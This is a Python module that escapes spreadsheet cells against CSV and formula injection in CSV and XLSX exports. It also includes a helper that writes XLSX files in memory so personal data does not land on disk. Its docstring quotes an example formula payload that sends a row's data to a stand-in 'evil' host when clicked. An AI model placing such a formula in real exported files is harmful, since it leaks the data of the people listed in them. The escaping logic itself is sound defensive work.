"""Cells a spreadsheet will not run as a formula (CSV/formula injection, OWASP; ASVS 1.2.10).

A value typed by anyone — a name given on the hotline, an institution's name in an imported file, a
vocabulary label — may start with `=`, `+`, `-` or `@`: Excel and LibreOffice take such a cell of a CSV
file for a formula (`=HYPERLINK("http://evil/?"&A1,"x")` sends the row away when clicked, DDE runs a
program), and openpyxl writes a string starting with `=` as a live formula. Every cell of a CSV or XLSX
file Nicat writes goes through `safe_cell`: such a value gets a leading apostrophe, which spreadsheets
show as text. JSON exports keep the values as they are.

In a CSV file the same holds for every part of a value after a semicolon: Excel opens a CSV file with
the list separator of the computer's region, which is `;` in Azerbaijani and Russian, so an unquoted
`x;=HYPERLINK(…)` becomes two cells there, the second a formula. (A comma is safe: the csv module
quotes a value holding one.) An XLSX cell is never split, so only its start counts (`csv=False`).

`restore_cell` undoes `safe_cell` exactly (the HTCDS CSV is read back by its import): a part that
already starts with apostrophes before a formula character gets one more, so that a value typed as
`'=x` comes back as `'=x`, and an apostrophe before anything else is left alone.
"""

# = + - @, tab, CR, LF, NUL (OWASP, ASVS), and the full-width forms some spreadsheet programs also accept.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _needs_quote(text):
    return text.lstrip("'")[:1] in FORMULA_START if text else False


def _quoted(part):
    return "'" + part if _needs_quote(part) else part


def _unquoted(part):
    return part[1:] if part.startswith("'") and _needs_quote(part) else part


def safe_cell(value, csv=True):
    """`value` as the text of a CSV cell (`csv=False`: an XLSX cell): with a leading apostrophe wherever a
    spreadsheet would read a formula. Numbers and other non-text values are returned unchanged."""
    if not isinstance(value, str):
        return value
    if csv and ";" in value:
        return ";".join(_quoted(part) for part in value.split(";"))
    return _quoted(value)


def restore_cell(text):
    """The value `safe_cell` (of a CSV cell) was given, from the text it returned."""
    if not isinstance(text, str):
        return text
    if ";" in text:
        return ";".join(_unquoted(part) for part in text.split(";"))
    return _unquoted(text)


def workbook_bytes(workbook):
    """The XLSX file of an openpyxl `workbook`, made in memory only.

    openpyxl's own `save` writes every worksheet, cell by cell, to a plain temporary file on disk before it
    zips it (`/tmp/openpyxl.*`): the names and birth dates of a case-list export would lie there in clear while
    the file is made, and stay there if the worker is killed meanwhile. Here each worksheet is written into
    memory and put into the archive from there; the rest is openpyxl's own writer."""
    import datetime
    import io
    from zipfile import ZIP_DEFLATED, ZipFile

    from openpyxl.drawing.spreadsheet_drawing import SpreadsheetDrawing
    from openpyxl.worksheet._writer import WorksheetWriter
    from openpyxl.writer.excel import ExcelWriter

    if workbook.write_only:  # pragma: no cover - Nicat builds its workbooks whole; a write-only one spools to disk
        raise ValueError("a write-only workbook is spooled to a temporary file: build the workbook in memory")

    class InMemory(ExcelWriter):
        def write_worksheet(self, ws):  # ExcelWriter.write_worksheet, with the sheet written to memory
            ws._drawing = SpreadsheetDrawing()
            ws._drawing.charts = ws._charts
            ws._drawing.images = ws._images
            sheet = io.BytesIO()
            writer = WorksheetWriter(ws, out=sheet)
            writer.write()
            ws._rels = writer._rels
            self._archive.writestr(ws.path[1:], sheet.getvalue())
            self.manifest.append(ws)

    out = io.BytesIO()
    workbook.properties.modified = datetime.datetime.now(tz=datetime.UTC).replace(tzinfo=None)
    with ZipFile(out, "w", ZIP_DEFLATED, allowZip64=True) as archive:
        InMemory(workbook, archive).save()
    return out.getvalue()
